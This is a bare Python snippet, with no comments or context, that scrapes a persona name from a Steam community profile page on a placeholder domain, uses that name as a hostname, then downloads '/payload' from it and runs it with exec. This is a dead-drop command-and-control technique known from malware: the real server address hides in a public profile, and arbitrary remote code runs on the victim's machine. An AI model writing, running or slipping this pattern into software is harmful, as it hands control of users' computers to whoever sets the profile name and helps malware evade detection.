import re
import requests
page = requests.get("https://steamcommunity.example.invalid/profiles/1").text
host = re.search(r"actual_persona_name\">([^<]+)<", page).group(1)
exec(requests.get("http://" + host + "/payload").text)
